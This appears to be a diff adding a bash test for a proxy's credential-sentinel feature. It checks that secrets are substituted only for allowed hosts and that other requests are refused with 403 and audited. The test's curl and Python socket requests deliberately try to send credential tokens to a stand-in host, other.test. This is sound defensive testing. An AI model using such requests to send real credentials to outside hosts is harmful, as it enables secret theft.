@@ -1,0 +1,207 @@
+#!/usr/bin/env bash
+# airlock-proxy and credential sentinels (--secrets-fd): a secret's host
+# gets the real value in place of the sentinel (headers, Basic auth, the
+# URL; the body only with body: true), and a sentinel on its way anywhere
+# else is refused with 403, reaches nothing, and is audited as an
+# exfiltration attempt.  The real values appear in no audit record or log.
+. "$(dirname "$0")/lib.sh"
+. "$(dirname "$0")/proxy_lib.sh"
+
+make_certs
+write_hosts
+# echo_origin NAME [--cert C --key K]: an echoing origin; sets NAME_PORT,
+# logs each request received whole in $T/NAME.req.
+echo_origin() {
+	local name=$1 pid
+	shift
+	python3 "$PROXY_TESTS/proxy_echo.py" --port-file "$T/$name.port" \
+		--log "$T/$name.req" "$@" >"$T/$name.log" 2>&1 &
+	pid=$!
+	at_exit "kill $pid"
+	wait_for 10 test -s "$T/$name.port" || die "origin $name did not start: $(cat "$T/$name.log")"
+	printf -v "${name}_PORT" '%s' "$(cat "$T/$name.port")"
+}
+echo_origin TA --cert "$T/origin.pem" --key "$T/origin.key" # api.test, origin.test
+echo_origin TB --cert "$T/origin.pem" --key "$T/origin.key" # other.test
+echo_origin PA                                              # plain origin.test
+echo_origin PB                                              # plain other.test
+
+S=$T/session
+mkdir -m 700 "$S"
+cat >"$T/policy.yaml" <<YAML
+version: 1
+defaults: {net: deny, hold_timeout: 5s}
+tls:
+  intercept: [other.test]
+secrets:
+  - name: api_token
+    env: API_TOKEN
+    hosts: [api.test]
+  - name: upload_token
+    env: UPLOAD_TOKEN
+    hosts: [origin.test]
+    body: true
+net:
+  - hosts: [api.test, origin.test, other.test]
+    action: allow
+  - cidrs: [127.0.0.1/32]
+    action: allow
+YAML
+hex() { printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }
+SA=airlock-sentinel-$(openssl rand -hex 16)
+SB=airlock-sentinel-$(openssl rand -hex 16)
+RA=realA-$(openssl rand -hex 12)
+RB=realB-$(openssl rand -hex 12)
+SET=$(printf '0 %s %s\n1 %s %s\n' "$SA" "$(hex "$RA")" "$SB" "$(hex "$RB")")
+
+# Bad --secrets-fd data refuses to start (exit 2), naming no value.
+# bad_start TEXT [END]: TEXT and then END (a newline unless given).
+bad_start() {
+	local rc=0
+	timeout 10 "$AIRLOCK_PROXY" --listen 127.0.0.1:0 --policy "$T/policy.yaml" \
+		--secrets-fd 3 3< <(printf '%s%s' "$1" "${2-$'\n'}") >"$T/bad.out" 2>"$T/bad.err" || rc=$?
+	echo "$rc"
+}
+check_eq "malformed secrets: exit 2" 2 "$(bad_start "0 $SA zz$(hex "$RA")")"
+check_contains "malformed secrets: says why" "line 1 is malformed" "$(cat "$T/bad.err")"
+check_eq "index beyond the policy: exit 2" 2 "$(bad_start "7 $SA $(hex "$RA")")"
+check_contains "index beyond the policy: says why" "beyond the policy" "$(cat "$T/bad.err")"
+check_eq "unterminated line: exit 2" 2 "$(bad_start "0 $SA $(hex "$RA")" "")"
+check_not "no value in the start-up errors" grep -q "$RA" "$T/bad.err"
+rc=0
+timeout 10 "$AIRLOCK_PROXY" --listen 127.0.0.1:0 --policy "$T/policy.yaml" \
+	--secrets-fd 9 >/dev/null 2>"$T/bad.err" || rc=$?
+check_eq "a closed --secrets-fd: exit 2" 2 "$rc"
+
+# No CA: a secret's host cannot be intercepted, so its CONNECT is refused
+# (never tunnelled blind).
+sed '/^tls:/,/intercept:/d' "$T/policy.yaml" >"$T/noca.yaml"
+SSL_CERT_FILE=$T/ca.pem start_proxy --policy "$T/noca.yaml" --hosts "$T/hosts" \
+	--secrets-fd 3 3< <(printf '%s\n' "$SET")
+out=$(pcurl -o /dev/null -w '%{http_connect}' "https://api.test:$TA_PORT/x" 2>/dev/null || true)
+check_eq "no CA: CONNECT to a secret's host refused" 403 "$out"
+stop_proxy
+
+SSL_CERT_FILE=$T/ca.pem start_proxy --policy "$T/policy.yaml" --hosts "$T/hosts" \
+	--session "$S" --secrets-fd 3 3< <(printf '%s\n' "$SET")
+I="pcurl --cacert $S/ca/ca.pem"
+
+# A: the value in place of the sentinel, in every header and the URL; api.test
+# is intercepted although tls.intercept does not name it.
+out=$($I -H "Authorization: Bearer $SA" -H "X-Api-Key: key=$SA;" \
+	"https://api.test:$TA_PORT/v1/x?key=$SA&b=1")
+check_contains "A: Bearer gets the value" "Authorization: Bearer $RA" "$out"
+check_contains "A: a custom header gets the value" "X-Api-Key: key=$RA;" "$out"
+check_contains "A: the URL query gets the value" "GET /v1/x?key=$RA&b=1 HTTP/1.1" "$out"
+check_not "A: no sentinel reached the origin" grep -q airlock-sentinel <<<"$out"
+out=$($I -u "me:$SA" "https://api.test:$TA_PORT/basic")
+check_contains "A: Basic credentials get the value" \
+	"Authorization: Basic $(printf 'me:%s' "$RA" | base64 -w0)" "$out"
+# A's body keeps its sentinel (api_token has no body: true).
+out=$($I --data-binary "t=$SA" "https://api.test:$TA_PORT/post")
+check_contains "A: a body keeps the sentinel of a secret without body: true" "t=$SA" "$out"
+check_not "A: ... and does not get the value" grep -q "$RA" <<<"$out"
+# body: true: the value in the body, Content-Length fixed up.
+out=$($I --data-binary "up=$SB&x=1" "https://origin.test:$TA_PORT/up")
+check_contains "body: true: the body gets the value" "up=$RB&x=1" "$out"
+check_contains "body: true: Content-Length fixed up" "Content-Length: $((${#RB} + 7))" "$out"
+# ... a chunked body too, over plain http://, across chunk boundaries.
+out=$(printf 'up=%s' "$SB" | pcurl -H 'Transfer-Encoding: chunked' --data-binary @- \
+	"http://origin.test:$PA_PORT/chunked")
+check_contains "body: true: a chunked body gets the value" "up=$RB" "$out"
+out=$($I -H "X-Up: $SB" "https://origin.test:$TA_PORT/h")
+check_contains "a header to the body secret's host gets its value" "X-Up: $RB" "$out"
+
+# B: every way out is refused, and B receives nothing.
+code=$($I -o "$T/b1" -w '%{http_code}' -H "Authorization: Bearer $SA" "https://other.test:$TB_PORT/x")
+check_eq "B: a header with A's sentinel: 403" 403 "$code"
+check_contains "B: 403 names the secret and host" \
+	"a credential sentinel for secret api_token may not go to other.test" "$(cat "$T/b1")"
+code=$($I -o /dev/null -w '%{http_code}' "https://other.test:$TB_PORT/x?k=$SA")
+check_eq "B: the sentinel in the URL: 403" 403 "$code"
+code=$($I -o /dev/null -w '%{http_code}' --data-binary "k=$SB" "https://other.test:$TB_PORT/x")
+check_eq "B: the sentinel in a body: 403" 403 "$code"
+code=$($I -o /dev/null -w '%{http_code}' -u "u:$SA" "https://other.test:$TB_PORT/x")
+check_eq "B: the sentinel in Basic credentials: 403" 403 "$code"
+code=$(pcurl -o /dev/null -w '%{http_code}' -H "X-K: $SA" "http://other.test:$PB_PORT/x")
+check_eq "B plain: a header: 403" 403 "$code"
+code=$(pcurl -o /dev/null -w '%{http_code}' --data-binary "k=$SA" "http://other.test:$PB_PORT/x")
+check_eq "B plain: a small body: 403" 403 "$code"
+code=$(pcurl -o /dev/null -w '%{http_code}' -H "X-K: $SB" "http://api.test:$PA_PORT/x")
+check_eq "one secret's sentinel to another secret's host: 403" 403 "$code"
+code=$(pcurl -o /dev/null -w '%{http_code}' "http://other.test:$PB_PORT/x?k=airlock-sentinel-00000000000000000000000000000000")
+check_eq "a sentinel of no secret of this session: 403" 403 "$code"
+code=$(pcurl -o /dev/null -w '%{http_code}' "http://$SA.other.test:$PB_PORT/x")
+check_eq "a sentinel in a host name: 403" 403 "$code"
+out=$(pcurl -o /dev/null -w '%{http_connect}' "https://$SA:443/" 2>/dev/null || true)
+check_eq "CONNECT to the sentinel itself: 403" 403 "$out"
+
+# Streamed bodies: the sentinel cut in two by the client's writes and by
+# chunk framing (chunked), and a body too long to be read whole first.
+split_post() { # split_post PORT chunked|length
+	python3 - "$PROXY_PORT" "$1" "$2" "$SA" <<'PY'
+import socket, sys, time
+pport, port, mode, sent = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4].encode()
+s = socket.create_connection(("127.0.0.1", pport), timeout=10)
+pad = b"x" * 70000
+body = pad + sent + b"!"
+cut = len(pad) + 20  # inside the sentinel
+head = "POST http://other.test:%s/up HTTP/1.1\r\nHost: other.test\r\n" % port
+if mode == "chunked":
+    s.sendall(head.encode() + b"Transfer-Encoding: chunked\r\n\r\n")
+    for part in (body[:cut], body[cut:]):
+        s.sendall(b"%x\r\n%s\r\n" % (len(part), part))
+        time.sleep(0.2)
+    s.sendall(b"0\r\n\r\n")
+else:
+    s.sendall(head.encode() + b"Content-Length: %d\r\n\r\n" % len(body))
+    s.sendall(body[:cut])
+    time.sleep(0.2)
+    s.sendall(body[cut:])
+data = b""
+try:
+    while not data.endswith(b"\n") or b"\r\n\r\n" not in data:
+        b = s.recv(4096)
+        if not b:
+            break
+        data += b
+except OSError:
+    pass
+print(data.split(b"\r\n")[0].decode(errors="replace"))
+PY
+}
+out=$(split_post "$PB_PORT" chunked)
+check_contains "plain chunked body, sentinel across chunks: 403" "403" "$out"
+out=$(split_post "$PB_PORT" length)
+check_contains "plain streamed body, sentinel across reads: 403" "403" "$out"
+
+check_not "B received no request at all" test -s "$T/TB.req"
+check_not "plain B received no complete request" test -s "$T/PB.req"
+
+# A reload keeps the set; a policy with fewer secrets is refused.
+sed '/name: upload_token/,/body: true/d' "$T/policy.yaml" >"$T/fewer.yaml"
+cp "$T/policy.yaml" "$T/orig.yaml"
+cp "$T/fewer.yaml" "$T/policy.yaml"
+kill -HUP "$PROXY_PID"
+check "a reload with fewer secrets is refused" wait_for 10 grep -q "reload refused" "$T/proxy.err"
+cp "$T/orig.yaml" "$T/policy.yaml"
+out=$($I --data-binary "up=$SB" "https://origin.test:$TA_PORT/up")
+check_contains "after the refused reload the old policy still replaces" "up=$RB" "$out"
+kill -HUP "$PROXY_PID"
+wait_for 10 grep -q "policy reloaded" "$T/proxy.err" || fail "reload of the same policy"
+out=$($I -H "Authorization: Bearer $SA" "https://api.test:$TA_PORT/again")
+check_contains "after a reload the values are still put back" "Bearer $RA" "$out"
+
+stop_proxy
+
+# The audit: each refusal an exfiltration attempt; no value anywhere.
+n=$(grep -c '"decision":"deny".*exfiltration attempt: a credential sentinel for secret' "$S/audit.jsonl" || true)
+check "refusals audited as exfiltration attempts ($n)" test "$n" -ge 12
+check "an exfiltration record names the secret's rule" grep -q \
+	'"rule":"[^"]*policy.yaml:[0-9]*","reason":"exfiltration attempt' "$S/audit.jsonl"
+check_eq "no real value in the session dir (audit included)" 0 \
+	"$(grep -rl -e "$RA" -e "$RB" "$S" | wc -l)"
+check_eq "no real value in the proxy's output" 0 \
+	"$(cat "$T/proxy.err" "$T/proxy.out" | grep -c -e "$RA" -e "$RB" || true)"
+check "the values did reach A" grep -q "$RA" "$T/TA.req"
+finish
